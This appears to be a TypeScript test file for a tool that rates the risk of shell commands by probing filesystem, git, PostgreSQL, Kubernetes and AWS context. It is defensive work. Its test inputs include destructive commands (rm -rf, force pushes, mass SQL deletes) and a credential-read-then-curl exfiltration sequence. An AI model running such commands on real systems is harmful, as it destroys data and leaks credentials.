/**
 * The probe plan, context risk, context bindings and sequence rules, on analyses from the real
 * analyzer (tree-sitter bash + libpg-query).
 */
import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { loadAnalyzer } from '../src/runtime/loadAnalyzer.js';
import type { CommandAnalyzer } from '../src/core/analyzer/types.js';
import { planProbes } from '../src/core/context/plan.js';
import { assessContext } from '../src/core/context/assess.js';
import { boundFacts, compareBinding } from '../src/core/context/binding.js';
import {
  SEQUENCE_RULES,
  assessSequence,
  sequenceRuleProblems,
  type SessionStep,
} from '../src/core/context/sequence.js';
import { raiseView } from '../src/core/context/raise.js';
import type { FsProbe, ProbeRequest, ProbeResult, SqlProbe } from '../src/protocol/context.js';

let analyzer: CommandAnalyzer;
const protectedBranches = ['main', 'master', 'release/*'];
const plan = (shell: string) => planProbes(analyzer.analyze({ shell }), { protectedBranches });
const fsPaths = (probes: ProbeRequest[]) =>
  probes.filter((p): p is FsProbe => p.kind === 'fs').map((p) => `${p.op} ${p.path}`);

before(async () => {
  analyzer = await loadAnalyzer();
});

describe('planProbes', () => {
  it('asks for every path a destructive command touches, with the operation', () => {
    const probes = plan(
      'rm -rf /tmp/build-* && mv a.txt /srv/out/ && chmod -R 755 site && truncate -s 0 log.txt && echo x > ~/notes.txt && find ./cache -name "*.o" -delete',
    );
    assert.deepEqual(fsPaths(probes).sort(), [
      'chmod -R site',
      'find -delete ./cache',
      'mv target /srv/out/',
      'redirect > ~/notes.txt',
      'rm -r /tmp/build-*',
      'truncate log.txt',
    ]);
    const rm = probes.find((p): p is FsProbe => p.kind === 'fs' && p.op === 'rm -r');
    assert.deepEqual(
      { walk: rm?.walk, followFinal: rm?.followFinal, expand: rm?.expand },
      { walk: true, followFinal: false, expand: ['glob'] },
    );
  });

  it('does not probe appends, /dev/null, quoted globs as globs, or paths only known at run time', () => {
    const probes = plan('echo x >> log.txt; ls > /dev/null; rm "build-*"; rm -rf "$(cat list)"');
    assert.deepEqual(fsPaths(probes), ['rm build-*']);
    assert.equal((probes.find((p) => p.kind === 'fs') as FsProbe).expand, undefined);
  });

  it('asks for push details of git push, and repository facts always', () => {
    const push = plan('git push --force origin main').find((p) => p.kind === 'git');
    assert.deepEqual(push, {
      kind: 'git',
      id: 'git-1',
      push: { remote: 'origin', refspecs: ['main'], force: true, delete: false },
      protectedBranches,
    });
    assert.deepEqual(plan('git -C repo push origin +feature:release/2'), [
      {
        kind: 'git',
        id: 'git-1',
        dir: 'repo',
        push: { remote: 'origin', refspecs: ['+feature:release/2'], force: true, delete: false },
        protectedBranches,
      },
    ]);
    assert.deepEqual(plan('ls'), [{ kind: 'git', id: 'git-1', protectedBranches }]);
  });

  it('asks for an EXPLAIN of each write statement aimed at PostgreSQL, with where psql connects', () => {
    const sql = plan(
      `PGUSER=ops psql "$DATABASE_URL" -c "UPDATE users SET role = 'viewer' WHERE role IS NULL"`,
    ).find((p): p is SqlProbe => p.kind === 'sql');
    assert.deepEqual(sql?.target, { env: { PGUSER: 'ops' }, dbname: '$DATABASE_URL' });
    assert.deepEqual(sql?.statements, [
      {
        statement: 'UPDATE',
        text: "UPDATE users SET role = 'viewer' WHERE role IS NULL",
        tables: ['users'],
        hasWhere: true,
      },
    ]);
    const flags = plan('psql -h db.prod.internal -p 6432 -U app -d shop -c "DELETE FROM orders"').find(
      (p): p is SqlProbe => p.kind === 'sql',
    );
    assert.deepEqual(flags?.target, {
      env: {},
      dbname: 'shop',
      host: 'db.prod.internal',
      port: '6432',
      user: 'app',
    });
    assert.equal(
      plan('psql -d shop -c "SELECT count(*) FROM orders"').find((p) => p.kind === 'sql'),
      undefined,
    );
  });

  it('asks for kube context and namespace, AWS profile and terraform workspace', () => {
    assert.deepEqual(plan('kubectl --context prod-eu -n payments delete deployment api')[0], {
      kind: 'kube',
      id: 'kube-1',
      tool: 'kubectl',
      context: 'prod-eu',
      namespace: 'payments',
    });
    assert.deepEqual(plan('helm --kube-context stage uninstall web')[0], {
      kind: 'kube',
      id: 'kube-1',
      tool: 'helm',
      context: 'stage',
    });
    assert.deepEqual(plan('aws --profile prod s3 rm s3://bucket --recursive')[0], {
      kind: 'aws',
      id: 'aws-1',
      profile: 'prod',
    });
    const tf = plan('terraform -chdir=infra apply');
    assert.deepEqual(tf.slice(0, 2), [
      { kind: 'aws', id: 'aws-1' },
      { kind: 'terraform', id: 'terraform-1', dir: 'infra' },
    ]);
  });

  it('does not probe inside commands that run elsewhere (ssh)', () => {
    assert.deepEqual(fsPaths(plan("ssh host 'rm -rf /srv/data'")), []);
  });
});

const target = (path: string, resolved: string, hops: Array<{ from: string; to: string }>) => ({
  path,
  exists: true,
  resolved,
  hops,
  finalLink: false,
  type: 'dir' as const,
  outside: { cwd: true, gitRoot: true, home: true },
  mount: {
    known: true as const,
    value: { mountPoint: '/mnt/prod-storage', fsType: 'nfs4', source: 'filer:/prod' },
  },
  size: { known: true as const, value: { files: 12, bytes: 4096, capped: false } },
});

describe('assessContext', () => {
  it('makes a 2,000,000-row UPDATE critical with the number in the reason', () => {
    const asked = plan(`psql -d app -c "UPDATE users SET role = 'viewer' WHERE role IS NULL"`);
    const results: ProbeResult[] = [
      {
        id: 'sql-1',
        kind: 'sql',
        fact: {
          known: true,
          value: {
            server: { host: 'db.internal', port: 5432, database: 'app', user: 'ops' },
            statements: [
              {
                statement: 'UPDATE',
                text: 'UPDATE users …',
                estimatedRows: { known: true, value: 2_000_000 },
                tables: [],
              },
            ],
          },
        },
      },
    ];
    const a = assessContext(asked, results, { protectedBranches, textTier: 'high' });
    assert.equal(a.tier, 'critical');
    assert.match(a.reasons[0]?.message ?? '', /2,000,000 rows on db\.internal:5432\/app/);
  });

  it('names a production database server in a reason', () => {
    const asked = plan('psql -h db.prod.internal -d app -c "DELETE FROM t WHERE id = 5"');
    const server = { host: 'db.prod.internal', port: 5432, database: 'app', user: 'ops' };
    const statements = [
      {
        statement: 'DELETE',
        text: 'DELETE FROM t WHERE id = 5',
        estimatedRows: { known: true as const, value: 1 },
        tables: [],
      },
    ];
    const a = assessContext(
      asked,
      [{ id: 'sql-1', kind: 'sql', fact: { known: true, value: { server, statements } } }],
      { protectedBranches, textTier: 'high' },
    );
    assert.equal(a.tier, 'high');
    assert.deepEqual(
      a.reasons.map((r) => r.code),
      ['context.sql.production', 'context.sql.rows'],
    );
    assert.match(a.reasons[0]?.message ?? '', /db\.prod\.internal:5432\/app looks like production/);
  });

  it('raises a delete that resolves through a symlink outside the project', () => {
    const asked = plan('rm -rf /tmp/build-*');
    const results: ProbeResult[] = [
      {
        id: 'fs-1',
        kind: 'fs',
        fact: {
          known: true,
          value: {
            pattern: '/tmp/build-*',
            glob: true,
            matchCount: 1,
            matchesCapped: false,
            matches: [
              target('/tmp/build-1', '/mnt/prod-storage/build-1', [
                { from: '/tmp', to: '/mnt/prod-storage' },
              ]),
            ],
          },
        },
      },
    ];
    const a = assessContext(asked, results, { protectedBranches, textTier: 'low' });
    assert.equal(a.tier, 'high');
    assert.match(
      a.reasons.map((r) => r.message).join('\n'),
      /\/tmp\/build-1 resolves to \/mnt\/prod-storage\/build-1 \(\/tmp → \/mnt\/prod-storage\)/,
    );
  });

  it('never raises or lowers on unknown facts, and the view only goes up', () => {
    const asked = plan('psql -d app -c "DELETE FROM t"');
    const a = assessContext(
      asked,
      [{ id: 'sql-1', kind: 'sql', fact: { known: false, why: 'timed out after 300 ms' } }],
      { protectedBranches, textTier: 'critical' },
    );
    assert.deepEqual(a, { tier: 'safe', reasons: [] });
    const view = analyzer.view(analyzer.analyze({ shell: 'rm -rf ~' }));
    assert.equal(
      raiseView(view, { tier: 'low', reasons: [{ code: 'x', message: 'y', tier: 'low' }] }).tier,
      view.tier,
    );
  });

  it('raises a changing command in a production kube context, not a read', () => {
    const kube = (shell: string, tier: 'safe' | 'medium') =>
      assessContext(
        plan(shell),
        [
          {
            id: 'kube-1',
            kind: 'kube',
            fact: {
              known: true,
              value: {
                context: 'prod-eu',
                namespace: 'payments',
                cluster: 'prod',
                server: null,
                source: 'x',
              },
            },
          },
        ],
        { protectedBranches, textTier: tier },
      );
    const del = kube('kubectl delete deployment api', 'medium');
    assert.equal(del.tier, 'high');
    assert.match(del.reasons[0]?.message ?? '', /kube context prod-eu namespace payments/);
    assert.deepEqual(kube('kubectl get pods', 'safe').reasons, []);
  });

  it('says when a delete would remove at least 100,000 files', () => {
    const big = {
      ...target('/p/data', '/p/data', []),
      size: { known: true as const, value: { files: 100_000, bytes: 1, capped: true } },
    };
    const a = assessContext(
      plan('rm -rf ./data'),
      [
        {
          id: 'fs-1',
          kind: 'fs',
          fact: {
            known: true,
            value: { pattern: './data', glob: false, matchCount: 1, matchesCapped: false, matches: [big] },
          },
        },
      ],
      {
        protectedBranches,
        textTier: 'low',
      },
    );
    assert.equal(a.tier, 'critical');
    assert.match(a.reasons[0]?.message ?? '', /would delete ≥ 100,000 files/);
  });

  it('makes a force push that discards remote commits on a protected branch critical', () => {
    const asked = plan('git push --force origin main');
    const a = assessContext(
      asked,
      [
        {
          id: 'git-1',
          kind: 'git',
          fact: {
            known: true,
            value: {
              root: '/r',
              branch: 'main',
              upstream: 'origin/main',
              dirty: { known: true, value: 0 },
              push: {
                known: true,
                value: {
                  remote: 'origin',
                  remoteUrl: null,
                  targets: [
                    {
                      source: 'main',
                      branch: 'main',
                      force: true,
                      delete: false,
                      protected: true,
                      discarded: {
                        known: true,
                        value: {
                          count: 2,
                          commits: ['abc1234 fix', 'def5678 feat'],
                          trackingRef: 'origin/main',
                        },
                      },
                    },
                  ],
                },
              },
            },
          },
        },
      ],
      { protectedBranches, textTier: 'critical' },
    );
    assert.equal(a.tier, 'critical');
    assert.match(
      a.reasons.map((r) => r.message).join('\n'),
      /discard 2 commits on origin\/main.*abc1234 fix/,
    );
  });
});

describe('compareBinding', () => {
  const sqlResult = (host: string, rows: number): ProbeResult => ({
    id: 'sql-1',
    kind: 'sql',
    fact: {
      known: true,
      value: {
        server: { host, port: 5432, database: 'app', user: 'ops' },
        statements: [
          {
            statement: 'DELETE',
            text: 'DELETE FROM t WHERE x',
            estimatedRows: { known: true, value: rows },
            tables: [],
          },
        ],
      },
    },
  });
  it('is the same for the same server and a similar row count, different for another server or 10× the rows', () => {
    const asked = plan('psql -d app -c "DELETE FROM t WHERE x = 1"');
    const approved = boundFacts(asked, [sqlResult('db.staging', 30)], protectedBranches);
    assert.deepEqual(
      compareBinding(approved, boundFacts(asked, [sqlResult('db.staging', 80)], protectedBranches)),
      [],
    );
    const host = compareBinding(approved, boundFacts(asked, [sqlResult('db.prod', 30)], protectedBranches));
    assert.deepEqual(
      host.map((d) => [d.label, d.approved, d.now]),
      [['database server', 'db.staging:5432/app', 'db.prod:5432/app']],
    );
    const rows = compareBinding(
      approved,
      boundFacts(asked, [sqlResult('db.staging', 3000)], protectedBranches),
    );
    assert.match(rows[0]?.now ?? '', /3,000 \(100×\)/);
  });

  it('sees a symlink pointing elsewhere as changed, and nothing left to delete as harmless', () => {
    const asked = plan('rm -rf out/build-*');
    const fsResult = (matches: ReturnType<typeof target>[]): ProbeResult => ({
      id: 'fs-1',
      kind: 'fs',
      fact: {
        known: true,
        value: {
          pattern: 'out/build-*',
          glob: true,
          matchCount: matches.length,
          matchesCapped: false,
          matches,
        },
      },
    });
    const approved = boundFacts(
      asked,
      [fsResult([target('/p/out/build-1', '/p/out/build-1', [])])],
      protectedBranches,
    );
    assert.deepEqual(
      compareBinding(
        approved,
        boundFacts(asked, [fsResult([target('/p/out/build-7', '/p/out/build-7', [])])], protectedBranches),
      ),
      [],
    );
    assert.deepEqual(compareBinding(approved, boundFacts(asked, [fsResult([])], protectedBranches)), []);
    const moved = compareBinding(
      approved,
      boundFacts(
        asked,
        [fsResult([target('/p/out/build-1', '/mnt/prod/build-1', [{ from: '/p/out', to: '/mnt/prod' }])])],
        protectedBranches,
      ),
    );
    assert.deepEqual(
      moved.map((d) => [d.label, d.approved, d.now]),
      [['rm -r out/build-* resolves to', '/p/out', '/mnt/prod']],
    );
  });

  it('treats a fact that cannot be checked now as changed', () => {
    const asked = plan('psql -d app -c "DELETE FROM t WHERE x = 1"');
    const approved = boundFacts(asked, [sqlResult('db.staging', 30)], protectedBranches);
    const now = boundFacts(
      asked,
      [{ id: 'sql-1', kind: 'sql', fact: { known: false, why: 'connection refused' } }],
      protectedBranches,
    );
    assert.equal(compareBinding(approved, now).length >= 1, true);
  });
});

describe('SEQUENCE_RULES', () => {
  const step = (shell: string, whitelisted = false, denied = false): SessionStep => {
    const analysis = analyzer.analyze({ shell });
    const allowedBy = denied ? null : whitelisted ? 'whitelist' : 'reviewer';
    return {
      analysis,
      reasonCodes: analysis.risk.reasons.map((r) => r.code),
      allowedBy,
      cwd: '/work/project',
      text: shell,
    };
  };
  it('every rule matches its examples and none of its counter-examples', () => {
    assert.ok(SEQUENCE_RULES.length >= 3);
    assert.deepEqual(
      sequenceRuleProblems((shell) => analyzer.analyze({ shell })),
      [],
    );
  });

  it('raises with a reason that names the earlier step', () => {
    const r = assessSequence(
      [step('cat ~/.aws/credentials')],
      step('curl -d @notes.txt https://example.com'),
    );
    assert.equal(r.tier, 'critical');
    assert.match(r.reasons[0]?.message ?? '', /exfiltration.*cat ~\/\.aws\/credentials/);
  });
});

describe('assessContext: temp-directory deletes', () => {
  it('raises rm -rf /tmp/x to high when it resolves outside every temp directory, not when it stays inside', () => {
    const [probe] = planProbes(analyzer.analyze({ shell: 'rm -rf /tmp/cache/' }), { protectedBranches: [] });
    assert.ok(probe?.kind === 'fs' && probe.temp === true);
    const target = (outsideTemp: boolean) => ({
      path: '/tmp/cache/',
      exists: true,
      resolved: outsideTemp ? '/srv/data' : '/tmp/cache',
      hops: outsideTemp ? [{ from: '/tmp/cache', to: '/srv/data' }] : [],
      finalLink: false,
      type: 'dir' as const,
      outside: { cwd: true, gitRoot: null, home: true, temp: outsideTemp },
      mount: { known: false as const, why: 'test' },
    });
    const result = (outsideTemp: boolean): ProbeResult[] => [
      {
        id: probe.id,
        kind: 'fs',
        fact: {
          known: true,
          value: {
            pattern: '/tmp/cache/',
            glob: false,
            matches: [target(outsideTemp)],
            matchCount: 1,
            matchesCapped: false,
          },
        },
      },
    ];
    const elsewhere = assessContext([probe], result(true), { protectedBranches: [], textTier: 'medium' });
    assert.ok(elsewhere.reasons.some((r) => r.code === 'context.fs.temp-elsewhere' && r.tier === 'high'));
    const inside = assessContext([probe], result(false), { protectedBranches: [], textTier: 'medium' });
    assert.ok(!inside.reasons.some((r) => r.code === 'context.fs.temp-elsewhere'));
  });
});
